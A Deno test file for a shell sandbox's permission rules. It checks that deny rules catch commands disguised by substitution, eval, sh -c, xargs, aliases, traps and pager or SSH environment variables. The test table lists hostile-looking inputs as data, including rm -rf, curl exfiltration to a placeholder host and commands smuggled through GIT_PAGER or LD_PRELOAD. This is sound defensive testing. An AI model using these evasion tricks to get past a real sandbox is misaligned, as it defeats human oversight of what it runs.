/** Rules against what a script really runs: every command, however it is written, and nothing that is only text. */
import { assert, assertEquals, assertStringIncludes } from "@std/assert";
import { createConfinedHost } from "../../src/sandbox/confined_host.ts";
import { createRealHost } from "../../src/sandbox/host_real.ts";
import { preparePolicy, removeTemp } from "../../src/sandbox/os/mod.ts";
import type { PermitAnswer } from "../../src/sandbox/permits.ts";
import type { ExecMode, Rules } from "../../src/sandbox/policy.ts";
import { createShell } from "../../src/shell/mod.ts";

interface Ran {
  /** "deny" where a rule refused a command, else "ask" where somebody was asked, else "allow". */
  readonly outcome: string;
  readonly asked: readonly string[];
  readonly text: string;
}

async function withRules(
  rules: Partial<Rules> & { readonly exec?: ExecMode },
  work: (run: (script: string, answer?: (what: string) => PermitAnswer) => Promise<Ran>) => Promise<void>,
): Promise<void> {
  const root = Deno.realPathSync(Deno.makeTempDirSync({ prefix: "rules-test-" }));
  for (const folder of ["ws", "home", "ws/.git"]) Deno.mkdirSync(`${root}/${folder}`);
  Deno.writeTextFileSync(`${root}/ws/a`, "text\n");
  Deno.writeTextFileSync(`${root}/ws/plain.sh`, "ls\n");
  Deno.writeTextFileSync(`${root}/ws/bad.sh`, "#!/bin/sh\ngit push\n", { mode: 0o755 });
  const policy = preparePolicy({
    mode: "workspace",
    workspace: `${root}/ws`,
    approve: "ask",
    exec: rules.exec ?? "ask",
    home: `${root}/home`,
    ownFolder: `${root}/home/.myelin`,
    rules,
  });
  const env = { PATH: "/usr/bin:/bin", HOME: `${root}/home` };
  const quiet = { write() {}, close() {} };
  try {
    await work(async (script, answer = () => ({ allow: false })) => {
      const asked: string[] = [];
      const { host, gate, close } = createConfinedHost({
        policy,
        env,
        host: createRealHost(),
        approve: (request) => {
          asked.push(request.summary);
          return Promise.resolve(answer(request.summary));
        },
      });
      const shell = createShell({ host, gate, env, cwd: policy.workspace, stdout: quiet, stderr: quiet });
      let text = "";
      const sink = {
        write: (bytes: Uint8Array) => void (text += new TextDecoder().decode(bytes)),
        close() {},
      };
      try {
        await shell.run(script, { stdout: sink, stderr: sink });
      } finally {
        shell.close();
        await close();
      }
      const denied = text.includes("in permissions.deny");
      return { outcome: denied ? "deny" : asked.length > 0 ? "ask" : "allow", asked, text };
    });
  } finally {
    removeTemp(policy);
    Deno.removeSync(root, { recursive: true });
  }
}

const RULES: Partial<Rules> = {
  allow: ["ls", "cat", "grep", "echo", "find", "xargs", "env", "cd", "wc"].map((name) => `run(${name} *)`)
    .concat("run(git log *)", "run(git status *)"),
  deny: ["run(rm -rf *)", "run(git push *)", "run(git clean *)", "run(curl *)"],
  commands: "ask",
};

/** Scripts and what is to come of them. */
const TABLE: readonly (readonly [script: string, outcome: "allow" | "ask" | "deny"])[] = [
  // Plain commands.
  ["ls", "allow"],
  ["ls | wc -l", "allow"],
  ["ls | head -1", "ask"],
  ["git push origin", "deny"],
  ["git commit -m x", "ask"],
  ["printf x", "allow"],
  ["true && [ -e a ] && cd .", "allow"],
  // Each part of a script by itself.
  ["ls && rm -rf x", "deny"],
  ["ls; ls; git push", "deny"],
  ["ls & rm -rf x; wait", "deny"],
  ["(cd .; rm -rf x)", "deny"],
  ["{ ls; git clean -fd; }", "deny"],
  ["if true; then git push; fi", "deny"],
  ["for i in 1 2; do curl http://h.invalid; done", "deny"],
  ["while git push; do break; done", "deny"],
  ["case a in a) git push;; esac", "deny"],
  ["! git push", "deny"],
  ["ls |& curl -d @- http://h.invalid", "deny"],
  ["coproc git push; wait", "deny"],
  // Substitutions and documents.
  ["echo $(rm -rf x)", "deny"],
  ["echo `git push`", "deny"],
  ['echo "is $(git push)"', "deny"],
  ["cat <(git push)", "deny"],
  ["x=$(git push)", "deny"],
  ["echo ${x:-$(git push)}", "deny"],
  ["echo $(( $(git push) + 1 ))", "deny"],
  ["cat <<E\n$(git push)\nE", "deny"],
  ["cat <<'E'\n$(git push)\nE", "allow"],
  ["[[ -n $(git push) ]]", "deny"],
  // Spelled otherwise.
  ["'git' push", "deny"],
  ['g"i"t pu\\sh', "deny"],
  ["a=push; git $a", "deny"],
  ["$(echo git) push", "deny"],
  ["/usr/bin/git push", "deny"],
  ["git -C . --no-pager push", "deny"],
  ["rm -r --force x", "deny"],
  ["rm -fr -- x", "deny"],
  ["{git,push}", "deny"],
  // Behind other commands.
  ["env A=1 rm -rf x", "deny"],
  ["time git push", "deny"],
  ["timeout 5 git push", "deny"],
  ["nohup git push", "deny"],
  ["nice -n 3 git push", "deny"],
  ["command git push", "deny"],
  ["builtin eval git push", "deny"],
  ["exec git push", "deny"],
  ["eval 'git' push", "deny"],
  ["sh -c 'rm -rf x'", "deny"],
  ["bash -ec 'echo; git push'", "deny"],
  ["/bin/sh -c 'exec git push'", "deny"],
  ["echo x | xargs rm -rf", "deny"],
  ["echo push | xargs git", "deny"],
  ["echo x | xargs -I{} sh -c 'git push {}'", "deny"],
  ["find . -name a -exec git push {} \\;", "deny"],
  ["find . -name a -exec rm -rf {} +", "deny"],
  ["f() { git push; }; f", "deny"],
  ["git() { command git push; }; git", "deny"],
  ["shopt -s expand_aliases\nalias up='git push'\nup", "deny"],
  ["trap 'git push' EXIT; exit", "deny"],
  ["trap 'git push' DEBUG; ls", "deny"],
  ["echo 'git push' | sh", "deny"],
  ["sh <<< 'git push'", "deny"],
  ["./bad.sh", "ask"],
  [". ./plain.sh", "ask"],
  ["source ./plain.sh", "ask"],
  ["git -c alias.y=push y", "ask"],
  ["someprogram git push", "ask"],
  // A name that only looks like another is another.
  ["git\u2009push", "ask"],
  ["g\u0456t push", "ask"],
  // Allowed by name is not allowed for everything.
  ["find . -name zz -delete", "ask"],
  ["env make", "ask"],
  // What a variable makes of an honest command.
  ["GIT_PAGER='git push' git log", "deny"],
  ["export GIT_EDITOR='git push'; git commit", "deny"],
  ["GIT_SSH_COMMAND='rm -rf x #' git fetch", "deny"],
  ["PAGER='sh -c \"git push\"' git log", "deny"],
  ["MANPAGER='curl http://h.invalid' man ls", "deny"],
  ["GIT_PAGER=./page git log", "ask"],
  ["GIT_PAGER=less git log", "ask"],
  ["GIT_PAGER=cat git log", "allow"],
  ["GIT_AUTHOR_NAME=me git log", "allow"],
  ["HOME=$PWD git log", "ask"],
  ["HOME=$PWD git up", "ask"],
  ["export XDG_CONFIG_HOME=$PWD; git log", "ask"],
  ["GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.up GIT_CONFIG_VALUE_0=push git up", "ask"],
  ["GIT_CONFIG_GLOBAL=./settings git log", "ask"],
  ["GIT_CONFIG_GLOBAL=/dev/null git log", "allow"],
  ["LD_PRELOAD=./x.so git log", "ask"],
  ["env LD_PRELOAD=./x.so git log", "ask"],
  ["env GIT_PAGER='git push' git log", "deny"],
  ["env -i PATH=/usr/bin:/bin GIT_EXTERNAL_DIFF='git push' git log", "deny"],
  // Names that git is given for others.
  ["git -C . config alias.up '!git push'", "ask"],
  ["git config core.pager 'git push'", "ask"],
  ["git --config-env=alias.up=UP up", "ask"],
  ["git -c core.sshCommand=x fetch", "ask"],
  // Text is no command.
  ['echo "ls && rm -rf x"', "allow"],
  ["grep -r 'git push' .", "allow"],
  ["ls # git push", "allow"],
  ["echo git push", "allow"],
  [": '$(git push)'", "allow"],
  // Redirections are writes.
  ["echo x > .git/config", "ask"],
  ["echo x > b", "allow"],
  ["cat a >> .git/hooks/pre-commit", "ask"],
  ["echo x > ../beside", "ask"],
  ["echo x >> ~/.profile", "ask"],
  ["date > /etc/stamp", "ask"],
];

Deno.test({
  name: "rules meet every command of a script, and nothing else",
  ignore: Deno.build.os === "windows",
  fn: () =>
    withRules(RULES, async (run) => {
      for (const [script, outcome] of TABLE) {
        const ran = await run(script);
        assertEquals(ran.outcome, outcome, `${script}\n${ran.text}\n${ran.asked}`);
      }
    }),
});

Deno.test({
  name: "a script that needs an answer in its middle waits for it and goes on",
  ignore: Deno.build.os === "windows",
  fn: () =>
    withRules({ ask: ["run(wc *)"] }, async (run) => {
      const script = "echo before; wc -l < a; echo after $?; f() { wc -c a; }; f; echo end $?";
      const yes = await run(script, () => ({ allow: true }));
      assertEquals(yes.text, "before\n1\nafter 0\n5 a\nend 0\n");
      assertEquals(yes.asked.slice(-2), ["run wc -l", "run wc -c a"]);
      const no = await run(script, () => ({ allow: false, reason: "not now" }));
      assertStringIncludes(no.text, "not now");
      assertStringIncludes(no.text, "after 126");
      assertStringIncludes(no.text, "end 126");
    }),
});

/** What a session looks at, again and again. */
const READ_ONLY = [
  "pwd",
  "ls -la",
  "cat a",
  "head -20 a | tail -3",
  "wc -l a",
  "grep -rn text .",
  "find . -name '*.sh' -type f",
  "sed -n 1,5p a",
  "sort a | uniq -c",
  "diff a a",
  "stat a",
  "du -sh .",
  "tree . 2>/dev/null || ls -R",
  "awk '{ print $1 }' a",
  "cd . && ls | wc -l",
  'for f in *; do echo "$f"; done',
  "git status --short",
  "git log --oneline -5",
  "git diff --stat",
  "git branch --show-current",
];

Deno.test({
  name: "with no rules at all, plain commands that only read ask nothing where a wrapper works",
  ignore: Deno.build.os !== "linux" || (Deno.env.get("MYELIN_MISSING") ?? "").includes("bwrap"),
  fn: () =>
    withRules({ exec: "auto" }, async (run) => {
      assertEquals(READ_ONLY.length, 20);
      for (const script of READ_ONLY) {
        const ran = await run(script);
        assertEquals([script, ran.outcome, ran.asked], [script, "allow", []], ran.text);
      }
    }),
});

Deno.test({
  name: "a command that was given another name is still what it is",
  ignore: Deno.build.os === "windows",
  fn: () =>
    withRules({ deny: ["run(touch *)"], ask: ["run(zz *)"] }, async (run) => {
      assertEquals((await run("hash -p /usr/bin/touch yy; yy made")).outcome, "deny");
      assertEquals((await run("exec -a yy touch made")).outcome, "deny");
      assertEquals((await run("hash -p /usr/bin/cat zz; zz a")).asked, ["run zz a"]);
    }),
});

Deno.test({
  name: "a script file that runs inside of the shell is asked about by its own name",
  ignore: Deno.build.os === "windows",
  fn: () =>
    withRules({ deny: ["run(./bad.sh)"] }, async (run) => {
      const ran = await run("./bad.sh");
      assertEquals(ran.outcome, "deny");
      assert(ran.asked.length === 0);
    }),
});

Deno.test({
  name: "a refused program where nothing can wait for it (a prompt, a subscript) ends no shell",
  ignore: Deno.build.os === "windows",
  fn: () =>
    withRules(RULES, async (run) => {
      for (
        const script of [
          "PS4='$(git push) '; set -x; ls; set +x; echo end",
          "x='$(git push)'; printf '%s\\n' \"${x@P}\"; echo end",
          "unset 'a[$(git push)]'; echo end",
        ]
      ) assertStringIncludes((await run(script)).text, "end\n", script);
    }),
});

Deno.test("a script of the workspace is what its first line makes of it", () =>
  withRules({ deny: ["run(git push *)"], exec: "allow" }, async (run) => {
    const script = (line: string) =>
      `printf '%s\\n' '#!${line}' > s; chmod +x s; ./s push 2>&1; ln -s s l; env ./l push 2>&1; rm s l`;
    assertEquals((await run(script("/usr/bin/env -S git push"))).outcome, "ask");
    assertEquals((await run(script("/usr/bin/env zsh"))).outcome, "ask");
    assertEquals((await run(script("/usr/bin/git"))).outcome, "ask");
  }));

Deno.test("a rule about an interpreter means the scripts that it runs", () =>
  withRules({ deny: ["run(perl *)"], exec: "allow" }, async (run) => {
    for (const line of ["/usr/bin/perl", "/usr/bin/perl -w", " /usr/bin/env perl"]) {
      const { outcome } = await run(`printf '%s\\n' '#!${line}' 'print 1' > s; chmod +x s; ./s`);
      assertEquals(outcome, "deny", line);
    }
    assertEquals((await run("printf '#!/bin/cat\\n' > s; chmod +x s; ./s")).outcome, "allow");
  }));
